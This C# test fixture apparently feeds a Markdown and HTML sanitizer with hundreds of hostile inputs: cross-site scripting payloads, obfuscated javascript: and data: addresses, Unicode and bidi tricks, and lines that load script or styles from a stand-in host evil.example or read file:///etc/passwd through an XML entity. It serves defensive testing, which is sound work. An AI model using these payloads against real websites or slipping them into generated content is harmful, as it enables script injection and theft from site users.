namespace Khulasa.Tests.Content;

/// <summary>Strings that try to run something, load something or reach out of their place in a page.</summary>
internal static class HostileBodies
{
    private static readonly string[] Tags =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script >alert(1)</script >", "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\n>alert(1)</script>", "<script/xss>alert(1)</script>", "<<script>alert(1);//<</script>", "<script>alert(1)//", "</script><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "<img src=x onerror=\"alert(1)\">", "<img/src=x/onerror=alert(1)>", "<IMG SRC=`javascript:alert(1)`>", "<img src='x'\nonerror='alert(1)'>",
        "<img \"\"\"><script>alert(1)</script>\">", "<img src=x:x onerror=alert(1)//", "<img srcset=\"x 1x\" onerror=alert(1)>", "<image src=x onerror=alert(1)>",
        "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"/>", "<svg><set attributeName=href to=javascript:alert(1)>",
        "<svg><style><img src=x onerror=alert(1)></style>", "<svg><![CDATA[><script>alert(1)</script>]]></svg>", "<svg><foreignObject><iframe src=javascript:alert(1)>",
        "<math><mi xlink:href=javascript:alert(1)>x</mi></math>", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe src=//evil.example>", "<frameset onload=alert(1)>", "<object data=javascript:alert(1)>",
        "<object data=data:text/html;base64,PHNjcmlwdD4=>", "<embed src=javascript:alert(1)>", "<applet code=x>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example';</style>", "<style>*{background:url(//evil.example)}</style>", "<p style=\"background:url(//evil.example)\">x</p>",
        "<body onload=alert(1)>", "<html onmouseover=alert(1)>", "<div onmouseover=alert(1)>x</div>", "<a onclick=alert(1)>x</a>", "<a href=javascript:alert(1)>x</a>", "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>", "<a href=\" javascript:alert(1)\">x</a>", "<a href=data:text/html,<script>alert(1)</script>>x</a>", "<a href=vbscript:msgbox(1)>x</a>", "<a target=_blank href=x>x</a>",
        "<form action=javascript:alert(1)><input type=submit>", "<input autofocus onfocus=alert(1)>", "<button formaction=javascript:alert(1)>x</button>", "<isindex action=javascript:alert(1)>", "<select onfocus=alert(1) autofocus>",
        "<textarea onfocus=alert(1) autofocus>", "<keygen onfocus=alert(1) autofocus>", "<details open ontoggle=alert(1)>", "<dialog open onclose=alert(1)>", "<marquee onstart=alert(1)>x</marquee>", "<bgsound src=javascript:alert(1)>",
        "<video><source onerror=alert(1)></video>", "<video poster=javascript:alert(1)>", "<audio src=x onerror=alert(1)>", "<track default src=x onerror=alert(1)>", "<x onclick=alert(1)>x</x>", "<custom-element onfocus=alert(1) tabindex=1>",
        "<xmp><script>alert(1)</script></xmp>", "<plaintext><script>alert(1)</script>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<title><img src=x onerror=alert(1)></title>", "<template><script>alert(1)</script></template>",
        "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>", "<!--><img src=x onerror=alert(1)>-->", "<!-- --!><img src=x onerror=alert(1)>", "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href=javascript:alert(1)?>",
        "<!DOCTYPE html><script>alert(1)</script>", "<!ENTITY x SYSTEM \"file:///etc/passwd\">", "<%= 1 %>", "{{ 1 }}", "{% include 'x' %}", "<br onclick=alert(1)>", "<hr onclick=alert(1)>", "<b/onclick=alert(1)>x</b>",
        "<p id=search>x</p>", "<a name=cookie>x</a>", "<p class=admin>x</p>", "<table background=javascript:alert(1)>", "<td onmouseover=alert(1)>", "<\u0000script>alert(1)</script>", "<scri\u0000pt>alert(1)</script>",
        "\uFF1Cscript\uFF1Ealert(1)", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;", "\\<script\\>alert(1)\\</script\\>", "\"onmouseover=alert(1) x=\"", "'onmouseover=alert(1) x='",
        "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "]]><script>alert(1)</script>", "--><script>alert(1)</script>", "</p><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
        "</style><script>alert(1)</script>", "</title><script>alert(1)</script>", "</a><script>alert(1)</script>", "</code></pre><script>alert(1)</script>",
    ];

    private static readonly string[] Addresses =
    [
        "javascript:alert(1)", "JAVASCRIPT:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\u0001javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "java\rscript:alert(1)",
        "java&#9;script:alert(1)", "java&#10;script:alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)",
        "javascript&#x3A;alert(1)", "java\\script:alert(1)", "javascript\\:alert(1)", "javascript://%0aalert(1)", "javascript:/*--></title></style>*/alert(1)", "javascript:alert(1)//https://ok.example", "jav\u00ADascript:alert(1)",
        "j\u200Davascript:alert(1)", "\u202Ejavascript:alert(1)", "\uFEFFjavascript:alert(1)", "\u2028javascript:alert(1)", "\u0085javascript:alert(1)", "\u3000javascript:alert(1)", "java\u0000script:alert(1)", "vbscript:msgbox(1)", "livescript:alert(1)", "mocha:alert(1)",
        "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>", "DATA:text/html,x", "blob:https://evil.example/x", "filesystem:https://evil.example/x",
        "file:///etc/passwd", "ftp://evil.example/x", "ws://evil.example", "about:blank", "view-source:javascript:alert(1)", "feed:javascript:alert(1)", "jar:https://evil.example!/x", "intent://evil#Intent;end", "tel:123", "sms:123", "ms-word:ofe|u|x", "chrome://settings",
        "//evil.example/x", "///evil.example/x", "/\\evil.example/x", "\\\\evil.example\\x", "https:evil.example", "https:\\\\evil.example", "https://user:pass@evil.example/", "https://ok.example\"onmouseover=\"alert(1)", "https://ok.example'onmouseover='alert(1)",
        "https://ok.example/><script>alert(1)</script>", "https://ok.example/\u202Ex", "mailto:a@b.example?subject=\"><script>", "#\"onmouseover=\"alert(1)", "#javascript:alert(1)", "?javascript:alert(1)", "./javascript:alert(1)", "x:y", "%6Aavascript:alert(1)", "javascript%3Aalert(1)", ":javascript:alert(1)", "1javascript:alert(1)",
    ];

    private static readonly string[] Structures =
    [
        "# x {onclick=alert(1)}", "x{.y onclick=alert(1)}", "[x](y){onclick=alert(1)}", "``` \"><script>alert(1)</script>\nx\n```", "```js onclick=alert(1)\nx\n```", "~~~ <script>\nx\n~~~", "[x]: javascript:alert(1)\n\n[x]", "[x]: <javascript:alert(1)> \"t\"\n\n[a][x] ![b][x]",
        "[x](y \"\"onmouseover=alert(1)\")", "[x](y '\"><script>alert(1)</script>')", "![x\" onerror=\"alert(1)](https://a.example/b.png)", "![x](https://a.example/b.png \"\" onerror=alert(1)\")", "[![x](javascript:alert(1))](javascript:alert(2))", "[a [b](javascript:alert(1)) c](https://x.example)",
        "[a <https://x.example> b](https://y.example)", "<javascript:alert(1)>", "<data:text/html,x>", "<https://x.example/\"onclick=\"alert(1)>", "<a@b.example>", "<\"onclick=alert(1)\"@b.example>", "a|b\n-|-\n<script>|[x](javascript:alert(1))", "a|b\n:-:|-:\n`<img src=x onerror=alert(1)>`|\u202Ex",
        "|a|\n|-|\n|</td></table><script>alert(1)</script>|", "> <script>alert(1)</script>", "- <script>alert(1)</script>\n  - <img src=x onerror=alert(1)>", "1) <svg onload=alert(1)>", "    <script>alert(1)</script>", "999999999. x\n", "[^1]\n\n[^1]: <script>alert(1)</script>",
        "*[x](javascript:alert(1))*", "**<script>**alert(1)**</script>**", "<scr*i*pt>alert(1)</scr*i*pt>", "`` ` <script>alert(1)</script> ``", "\u2066x\u2067y", "\u2069\u2069x\u2066", "\u202Dx\u202C", "x\u0000y\u0007z\u001B[31m", "&#0; &#x1F; &#x80; &#xD800; &#xFFFE; &#x110000;", "&#x202E;x &#x2066;y", "\uFFFE\uFFFF\uFDD0 x", "\U000E0041\U000E007F x",
    ];

    /// <summary>Every string by itself, and every string in every place of Markdown that takes text or an address.</summary>
    public static IEnumerable<string> All()
    {
        foreach (var text in Tags.Concat(Structures).Concat(Addresses))
        {
            yield return text;
            yield return $"# {text}\n\n{text}\n===";
            yield return $"- {text}\n\n  {text}\n> {text}\n> > 1. {text}";
            yield return $"نص *{text}* **{text}** `{text}` عربي";
            yield return $"[{text}](https://ok.example/) ![{text}](https://ok.example/a.png \"{text}\")";
            yield return $"a|b\n:-|-:\n{text}|{text}";
            yield return $"```{text}\n{text}\n```\n\n    {text}";
        }
        foreach (var address in Addresses.Concat(Tags))
        {
            yield return $"[x]({address})";
            yield return $"[x](<{address}>)";
            yield return $"![x](<{address}> '{address}')";
            yield return $"![](<{address}>)";
            yield return $"<{address}>";
            yield return $"[x]\n\n[x]: <{address}> \"{address}\"";
            yield return $"a|b\n-|-\n[x](<{address}>)|<{address}>";
        }
    }

    /// <summary>How many different strings there are.</summary>
    public static int Count => Tags.Length + Addresses.Length + Structures.Length;
}
